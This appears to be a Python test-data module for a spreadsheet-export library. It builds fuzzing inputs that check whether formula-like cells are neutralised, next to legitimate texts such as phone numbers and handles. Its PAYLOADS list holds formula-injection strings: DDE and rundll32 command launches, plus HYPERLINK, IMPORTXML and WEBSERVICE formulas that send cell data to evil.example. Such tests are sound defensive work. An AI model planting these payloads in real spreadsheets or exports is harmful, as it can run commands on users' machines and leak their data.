"""Cells that would run in a spreadsheet, and cells that people need as they are."""

from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from itertools import chain, product
from uuid import UUID

from lodestar.cells import Value
from tests.proof import generator

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    '=IMPORTXML(CONCAT("https://evil.example/?v=",A1:E1),"//a")',
    '=WEBSERVICE("https://evil.example/"&B2)',
    '=DDE("cmd";"/C calc";"!A0")',
    "+1+cmd|' /C notepad'!A1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '@HYPERLINK("https://evil.example")',
    "=rundll32|'URL.dll,OpenURL evil.example'!A",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "＝1+1",
    "＋1+cmd|'/C calc'!A0",
    "－1+cmd|'/C calc'!A0",
    "＠SUM(A1:A9)",
    "\u22121+cmd|'/C calc'!A0",
    "﹦1+1",
)
LEADING = (
    "", " ", "   ", "\t", "\r", "\n", "\r\n", "\t\t", "\u00a0", "\u200b", "\ufeff", "\x00", "\x0b", "\u3000", "'",
    "''", "' ", "\x1b", "\u2028", "\u200e",
)  # fmt: skip
INNER = (
    "a,",
    "a;",
    "a\t",
    "a|",
    "a\n",
    "a\r\n",
    "a\r",
    '"',
    'a"',
    'a";',
    'a",',
    '";"',
    "a, ",
    "a;'",
    "a\n\n",
    'a""',
)
"""What a value may hold before a formula, when it is read with other separators or torn at its quotes."""

GOOD_TEXTS = (
    "+44 20 7946 0958", "+49-151-23456789", "-", "--", "- a list's first point", "@ada", "@ada.lovelace", "a@b.example",
    "Ada Lovelace", "O'Brien", "'quoted'", "''", "'", "it's = fine", "1 = 1", "50 % - 60 %", "C++", "E=mc²", "a-b",
    "2026-11-21", "12:30", "=)", "-> next", "+1", "-5", "1,5", "-1,5", "first; second", "first, second", "a|b",
    "line one\nline two", "line one\r\nline two", "tab\there", "ends with tab\t", "\tbegins with tab", 'say "hello"',
    '"', '""', "", " ", "  both ends  ", "Größe", "日本語", "नमस्ते", "مرحبا", "😀", "x" * 5_000, "null", "TRUE", "0012",
    "1e5", "https://example.org/?a=1&b=-2", "def f(x):\n    return -x", "a,\n-b", "'=1", "''=1", "'+44", "a;'-b",
)  # fmt: skip
NUMBERS: tuple[Value, ...] = (
    0, 1, -1, -5, 10**18, -(10**18), 1.5, -1.5, -0.25, 1e-7, -1e22, Decimal("-12.50"), Decimal("0.00"), True, False,
    None, date(2026, 11, 21), datetime(2026, 11, 21, 4, 5, tzinfo=UTC), UUID(int=7),
)  # fmt: skip


def attacks(count: int) -> list[str]:
    """Each payload at the beginning behind each lead, and inside a value behind each inner separator."""
    every = [
        *(lead + payload for lead, payload in product(LEADING, PAYLOADS)),
        *(inner + payload for inner, payload in product(INNER, PAYLOADS)),
        *("".join(parts) for parts in product(("x; ", "x\n"), ("'", " ", "\u200b"), PAYLOADS)),
    ]
    generator("formulas").shuffle(every)
    return every[:count]


def good(count: int) -> list[Value]:
    """Texts and typed values as people have them, the plainest first."""
    return list(chain(GOOD_TEXTS, NUMBERS, _generated()))[: max(count, len(GOOD_TEXTS) + len(NUMBERS))]


def _generated() -> Iterator[Value]:
    random = generator("good-cells")
    for nth in range(200):
        yield random.choice([-1, 1]) * random.randrange(10**6) / 100
        yield f"+{random.randrange(1, 99)} {random.randrange(10**9):09}"
        yield f"@{random.choice(('ada', 'alan', 'grace'))}_{nth}"


def noise(count: int) -> Iterator[str]:
    """Any characters that matter, in any order."""
    random = generator("cells-noise")
    alphabet = "=+-@'\"\t\r\n,;| a1\u200b\ufeff\x00＝＋－＠\u2212\x1c\u2028"
    for _ in range(count):
        yield "".join(random.choices(alphabet, k=random.randrange(12)))
